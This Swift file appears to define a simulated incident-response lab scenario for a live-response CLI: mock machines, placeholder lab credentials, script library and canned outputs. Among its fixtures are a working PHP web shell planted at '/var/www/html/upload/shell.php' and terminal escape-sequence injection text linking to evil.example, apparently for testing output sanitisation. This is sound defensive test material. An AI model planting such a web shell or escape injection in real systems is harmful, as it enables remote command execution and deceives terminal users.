import Crypto
import Foundation

extension Scenario {
  /// The documented example machine.
  public static let exampleMachineId = "1e5bc9d7e413ddd7902c2932e418702b84d0cc07"

  /// The exact transcript of the documented `minidump.ps1 OfficeClickToRun` example.
  public static let exampleTranscriptOutput =
    "Transcript started, output file is C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Temp\\PSScriptOutputs\\PSScript_Transcript_{TRANSCRIPT_ID}.txt\nC:\\windows\\TEMP\\OfficeClickToRun.dmp.zip\n51 MB\n\u{0}\u{0}\u{0}"

  /// The lab apps every built-in scenario has.
  static let labApps: [ScenarioApp] = [
    ScenarioApp(
      clientId: "lr-lab", clientSecret: "lr-lab-secret", displayName: "lr-lab",
      roles: ScenarioApp.allRoles, allowPublicClient: true),
    ScenarioApp(
      clientId: "lr-lab-readonly", clientSecret: "lr-lab-readonly-secret",
      displayName: "lr-lab-readonly", roles: ["Machine.Read.All"]),
  ]

  /// The lab users for device-code sign-in.
  static let labUsers: [ScenarioUser] = [
    ScenarioUser(
      userPrincipalName: "analyst@lab.contoso.com",
      scopes: ["Machine.Read", "Machine.ReadWrite", "Machine.LiveResponse", "Library.Manage"]),
    ScenarioUser(userPrincipalName: "viewer@lab.contoso.com", scopes: ["Machine.Read"]),
  ]

  /// A stable 40-hex-digit machine id derived from a name.
  static func machineId(_ name: String) -> String {
    Insecure.SHA1.hash(data: Data(name.utf8)).map { String(format: "%02x", $0) }.joined()
  }

  /// The built-in `demo` scenario that `lr --lab` uses.
  public static var demo: Scenario {
    var machines: [ScenarioMachine] = []

    var example = ScenarioMachine(
      id: exampleMachineId, computerDnsName: "mymachine1.contoso.com", osPlatform: "Windows10",
      version: "1709", osBuild: 18209, healthStatus: "Active", riskScore: "Low",
      exposureLevel: "Medium", rbacGroupId: 140, rbacGroupName: "The-A-Team",
      machineTags: ["test tag 1", "test tag 2"], lastIpAddress: "172.17.230.209",
      checkInLatencySeconds: 3,
      files: [
        FileSpec(
          path: "C:\\Windows\\System32\\drivers\\etc\\hosts",
          text: "127.0.0.1 localhost\n::1 localhost\n"),
        FileSpec(
          path: "C:\\Users\\analyst\\Downloads\\invoice.pdf.exe", size: 2 * 1_048_576, seed: 7,
          pattern: "random"),
      ])
    example.lastExternalIpAddress = "167.220.196.71"
    example.aadDeviceId = "80fe8ff8-2624-418e-9591-41f0491218f9"
    machines.append(example)

    func add(
      _ name: String, _ os: String, _ version: String, build: Int, group: String = "Workstations",
      groupId: Int = 101, tags: [String] = [], risk: String = "Low", health: String = "Active",
      online: OnlineSchedule = .always, latency: Double = 5, ip: String, files: [FileSpec] = [],
      allowed: Bool = true
    ) {
      var m = ScenarioMachine(
        id: machineId(name), computerDnsName: name, osPlatform: os, version: version,
        osBuild: build, healthStatus: health, riskScore: risk, rbacGroupId: groupId,
        rbacGroupName: group, machineTags: tags, lastIpAddress: ip, online: online,
        checkInLatencySeconds: latency, files: files)
      m.liveResponseAllowed = allowed
      m.aadDeviceId = UUID(uuidString: uuidLike(name))?.uuidString.lowercased()
      machines.append(m)
    }
    let windowsFiles = [
      FileSpec(
        path: "C:\\Windows\\System32\\drivers\\etc\\hosts", text: "127.0.0.1 localhost\n")
    ]
    let linuxFiles = [
      FileSpec(path: "/etc/hostname", text: "host\n"),
      FileSpec(path: "/etc/passwd", text: "root:x:0:0:root:/root:/bin/bash\n"),
      FileSpec(path: "/var/log/syslog", size: 3 * 1_048_576, seed: 11),
    ]
    // The files the examples fetch (examples/hash-then-fetch.lr, linux-fleet.lr,
    // mac-investigation.lr), so each investigation succeeds in the lab.
    add(
      "ws-0142.contoso.com", "Windows11", "23H2", build: 22631, tags: ["Finance"],
      risk: "Medium", latency: 4, ip: "10.1.4.142",
      files: windowsFiles + [
        FileSpec(
          path: "C:\\Users\\Public\\evil.exe", size: 2 * 1_048_576, seed: 4711,
          pattern: "random")
      ])
    add(
      "ws-0143.contoso.com", "Windows11", "24H2", build: 26100, tags: ["Finance"],
      latency: 6, ip: "10.1.4.143", files: windowsFiles)
    add(
      "ws-0150.contoso.com", "Windows10", "22H2", build: 19045, tags: ["HR"], latency: 5,
      ip: "10.1.4.150", files: windowsFiles)
    add(
      "srv-dc01.contoso.com", "WindowsServer2022", "21H2", build: 20348, group: "Tier0",
      groupId: 10, tags: ["Tier0", "Critical"], risk: "High", latency: 4, ip: "10.0.0.10",
      files: windowsFiles)
    add(
      "srv-file01.contoso.com", "WindowsServer2019", "1809", build: 17763, group: "Servers",
      groupId: 20, tags: ["Critical"], latency: 5, ip: "10.0.0.21",
      files: windowsFiles + [
        FileSpec(
          path: "D:\\Shares\\Finance\\archive-2025.vhdx", size: 1_073_741_824, seed: 2025)
      ])
    add(
      "srv-app02.contoso.com", "WindowsServer2025", "24H2", build: 26100, group: "Servers",
      groupId: 20, latency: 6, ip: "10.0.0.32", files: windowsFiles)
    add(
      "web-01.contoso.com", "Linux", "Ubuntu 22.04", build: 0, group: "Linux", groupId: 30,
      tags: ["DMZ"], risk: "Medium", latency: 5, ip: "10.2.0.11",
      files: linuxFiles + [
        FileSpec(
          path: "/var/www/html/upload/shell.php",
          text: "<?php if (isset($_REQUEST['c'])) { system($_REQUEST['c']); } ?>\n")
      ])
    add(
      "db-02.contoso.com", "Linux", "RHEL 9.4", build: 0, group: "Linux", groupId: 30,
      latency: 7, ip: "10.2.0.22", files: linuxFiles)
    add(
      "mac-design-01.contoso.com", "macOS", "14.5", build: 0, group: "Mac", groupId: 40,
      tags: ["Design"], latency: 6, ip: "10.1.9.31",
      files: [
        FileSpec(path: "/etc/hosts", text: "127.0.0.1 localhost\n"),
        FileSpec(path: "/Users/Shared/.updater/updater", size: 1_048_576, seed: 4720),
      ])
    add(
      "laptop-travel-07.contoso.com", "Windows11", "23H2", build: 22631, tags: ["Travel"],
      health: "Inactive", online: OnlineSchedule(after: 180), latency: 5, ip: "192.168.1.77",
      files: windowsFiles)
    add(
      "kiosk-lobby-02.contoso.com", "Windows10", "21H2", build: 19044, group: "Kiosks",
      groupId: 50, health: "Inactive", online: .offline, ip: "10.1.7.2")
    add(
      "ws-broken-09.contoso.com", "Windows10", "22H2", build: 19045, tags: ["Lab"],
      health: "ImpairedCommunication", latency: 5, ip: "10.1.4.9", files: windowsFiles)
    add(
      "ws-hostile-13.contoso.com", "Windows11", "23H2", build: 22631, tags: ["Lab", "Hostile"],
      risk: "High", latency: 4, ip: "10.1.4.13", files: windowsFiles)
    add(
      "srv-legacy03.contoso.com", "WindowsServer2016", "1607", build: 14393, group: "Unmanaged",
      groupId: 60, health: "Active", latency: 5, ip: "10.0.0.43", allowed: false)

    return Scenario(
      name: "demo", tenant: "lab", apps: labApps, users: labUsers, machines: machines,
      library: stdlibLibrary, scripts: demoScripts,
      deviceCode: DeviceCodeSettings(
        autoApproveUser: "analyst@lab.contoso.com", autoApproveAfterSeconds: 5))
  }

  /// A UUID-shaped string derived from a name.
  private static func uuidLike(_ name: String) -> String {
    let h = Array(machineId("aad:" + name).prefix(32))
    let s = String(h)
    func part(_ a: Int, _ b: Int) -> Substring {
      s[s.index(s.startIndex, offsetBy: a)..<s.index(s.startIndex, offsetBy: b)]
    }
    return "\(part(0, 8))-\(part(8, 12))-\(part(12, 16))-\(part(16, 20))-\(part(20, 32))"
  }

  /// The stdlib script names (content comes from the library directory when one is given).
  static let stdlibLibrary: [ScenarioLibraryFile] = [
    ("minidump.ps1", "Process memory dump, zipped to C:\\windows\\TEMP", true, "<process name>"),
    (
      "Collect-Triage.ps1", "Collects a triage package to C:\\windows\\TEMP\\triage.zip", false, nil
    ),
    (
      "Export-EventLog.ps1", "Exports an event log to C:\\windows\\TEMP\\<LogName>.evtx.zip", true,
      "<LogName>"
    ),
    ("Get-Processes.ps1", "Lists running processes", false, nil),
    ("Get-Services.ps1", "Lists services", false, nil),
    ("Get-Autoruns.ps1", "Lists autostart entries", false, nil),
    ("Get-FileHash.ps1", "SHA-256 of a file", true, "<path>"),
    ("sleep.ps1", "Sleeps for N seconds (lab)", true, "<seconds>"),
    ("memdump.sh", "Process core dump to /tmp/<process>.core.gz", true, "<process>"),
    ("triage.sh", "Collects a triage archive to /tmp/triage.tar.gz", false, nil),
    ("export-logs.sh", "Archives logs to /tmp/logs.tar.gz", false, nil),
    ("processes.sh", "Lists running processes", false, nil),
    ("services.sh", "Lists services", false, nil),
    ("autoruns.sh", "Lists autostart entries", false, nil),
    ("filehash.sh", "SHA-256 of a file", true, "<path>"),
    ("sleep.sh", "Sleeps for N seconds (lab)", true, "<seconds>"),
  ].map { name, description, hasParameters, parameters in
    ScenarioLibraryFile(
      fileName: name, description: description, hasParameters: hasParameters,
      parametersDescription: parameters)
  }

  static let transcriptHeader =
    "Transcript started, output file is C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Temp\\PSScriptOutputs\\PSScript_Transcript_{transcriptId}.txt\n"

  /// Script behaviours of the built-in scenarios.
  static var demoScripts: [ScriptBehaviour] {
    let mb = Int64(1_048_576)
    let esc = "\u{1B}"
    let hostileText =
      "\(esc)[2J\(esc)[H\(esc)[31;1mALERT\(esc)[0m \(esc)]0;owned-title\u{07}\(esc)]8;;http://evil.example/\(esc)\\click\(esc)]8;;\(esc)\\\r\n"
      + "bell\u{07} backspace\u{08}\u{08}X nul\u{0}end del\u{7F} csi\u{9B}31m c1 \u{202E}txt.exe\n"
    var hostileBytes = Array(hostileText.utf8)
    hostileBytes += [0xFF, 0xFE, 0xC3, 0x28, 0xE2, 0x82, 0x0A]
    hostileBytes += Array("invalid utf-8 above\n".utf8)
    return [
      // Machine-specific rules first.
      ScriptBehaviour(
        script: "*", machines: ["ws-broken-09*"], output: "", errors: "", exitCode: 1,
        durationSeconds: 4,
        fail: "Script execution failed: the device rejected the script (0x80070005)"),
      ScriptBehaviour(
        script: "Get-Processes.ps1", machines: ["ws-hostile-13*"], output: hostileText,
        errors: "\(esc)[5mblinking error\(esc)[0m\u{07}\n", durationSeconds: 2),
      ScriptBehaviour(
        script: "*", machines: ["ws-hostile-13*"],
        durationSeconds: 2, outputBase64: Data(hostileBytes).base64EncodedString()),
      ScriptBehaviour(
        script: "minidump.ps1", args: "OfficeClickToRun", machines: [exampleMachineId],
        output: exampleTranscriptOutput, durationSeconds: 12,
        creates: [
          FileSpec(
            path: "C:\\windows\\TEMP\\OfficeClickToRun.dmp.zip", size: 51 * mb, seed: 51,
            pattern: "random")
        ]),
      // Windows PowerShell scripts.
      ScriptBehaviour(
        script: "minidump.ps1",
        output: transcriptHeader + "C:\\windows\\TEMP\\{arg0}.dmp.zip\n24 MB\n",
        durationSeconds: 10,
        creates: [FileSpec(path: "C:\\windows\\TEMP\\{arg0}.dmp.zip", size: 24 * mb, seed: 24)]),
      ScriptBehaviour(
        script: "Collect-Triage.ps1",
        output: transcriptHeader
          + "Collected 1423 artefacts\nC:\\windows\\TEMP\\triage.zip\n8 MB\n",
        durationSeconds: 25,
        creates: [FileSpec(path: "C:\\windows\\TEMP\\triage.zip", size: 8 * mb, seed: 8)]),
      ScriptBehaviour(
        script: "Export-EventLog.ps1",
        output: transcriptHeader
          + "Exported {arg0}\nC:\\windows\\TEMP\\{arg0:file}.evtx.zip\n4 MB\n",
        durationSeconds: 8,
        creates: [
          FileSpec(path: "C:\\windows\\TEMP\\{arg0:file}.evtx.zip", size: 4 * mb, seed: 4)
        ]),
      // Outputs named `{demo:…}` are built on first use (DemoOutputRegistry).
      // Processes differ per machine: a second lsass.exe from a public folder on ws-0142, a
      // domain controller's services on srv-dc01, no desktop session on the other servers.
      ScriptBehaviour(
        script: "Get-Processes.ps1", machines: ["ws-0142*"],
        output: transcriptHeader + "{demo:oddLsassProcesses}", durationSeconds: 2),
      ScriptBehaviour(
        script: "Get-Processes.ps1", machines: ["srv-dc01*"],
        output: transcriptHeader + "{demo:domainControllerProcesses}", durationSeconds: 2),
      ScriptBehaviour(
        script: "Get-Processes.ps1", machines: ["srv-*"],
        output: transcriptHeader + "{demo:serverProcesses}", durationSeconds: 2),
      ScriptBehaviour(
        script: "Get-Processes.ps1",
        output: transcriptHeader + "{demo:workstationProcesses}", durationSeconds: 2),
      ScriptBehaviour(
        script: "Get-Services.ps1", output: transcriptHeader + "{demo:services}",
        durationSeconds: 2),
      ScriptBehaviour(
        script: "Get-Autoruns.ps1", output: transcriptHeader + "{demo:autoruns}",
        durationSeconds: 4),
      ScriptBehaviour(
        script: "Get-FileHash.ps1", output: transcriptHeader + "{demo:fileHash}",
        durationSeconds: 2),
      ScriptBehaviour(
        script: "sleep.ps1", output: transcriptHeader + "slept {arg0} seconds\n",
        durationSeconds: 60, durationFromArg: 0),
      // Bash scripts.
      ScriptBehaviour(
        script: "memdump.sh", output: "/tmp/{arg0}.core.gz\n16 MB\n", durationSeconds: 9,
        creates: [FileSpec(path: "/tmp/{arg0}.core.gz", size: 16 * mb, seed: 16)]),
      ScriptBehaviour(
        script: "triage.sh", output: "collected 811 artefacts\n/tmp/triage.tar.gz\n",
        durationSeconds: 20,
        creates: [FileSpec(path: "/tmp/triage.tar.gz", size: 8 * mb, seed: 80)]),
      ScriptBehaviour(
        script: "export-logs.sh", output: "/tmp/logs.tar.gz\n", durationSeconds: 6,
        creates: [FileSpec(path: "/tmp/logs.tar.gz", size: 2 * mb, seed: 2)]),
      ScriptBehaviour(script: "processes.sh", output: unixProcesses, durationSeconds: 2),
      ScriptBehaviour(script: "services.sh", output: unixServices, durationSeconds: 2),
      ScriptBehaviour(script: "autoruns.sh", output: unixAutoruns, durationSeconds: 3),
      ScriptBehaviour(
        script: "filehash.sh", output: "{argsHash}  {arg0}\n", durationSeconds: 2),
      ScriptBehaviour(
        script: "sleep.sh", output: "slept {arg0} seconds\n", durationSeconds: 60,
        durationFromArg: 0),
    ]
  }

  static let unixProcesses = """
    USER       PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND
    root         1  0.0  0.1 167744 11820 ?        Ss   Nov01   0:12 /sbin/init
    root       812  0.3  1.2 982312 98012 ?        Ssl  Nov01  12:03 /opt/microsoft/mdatp/sbin/wdavdaemon
    www-data  2211  1.1  0.8 412332 65012 ?        S    Nov01  40:10 nginx: worker process

    """
  static let unixServices = """
    UNIT                 LOAD   ACTIVE SUB     DESCRIPTION
    mdatp.service        loaded active running Microsoft Defender
    nginx.service        loaded active running A high performance web server
    ssh.service          loaded active running OpenBSD Secure Shell server

    """
  /// `autoruns.sh`: CSV, one record per entry.
  static let unixAutoruns = """
    Category,Location,Entry
    "cron and at","/etc/cron.d/backup","0 2 * * * root /usr/local/bin/backup.sh"
    "systemd","/etc/systemd/system/updater.service","ExecStart=/tmp/.x/updater"

    """
}
